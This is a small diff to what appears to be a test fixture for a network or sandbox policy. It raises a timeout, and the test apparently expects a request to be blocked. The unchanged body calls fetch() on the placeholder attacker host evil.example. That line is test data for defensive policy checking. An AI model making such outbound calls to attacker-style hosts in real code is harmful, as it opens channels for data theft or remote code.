@@ -1,3 +1,3 @@
 // expect: policy
-// timeoutMs: 3000
+// timeoutMs: 15000
 return await fetch('https://evil.example/x');
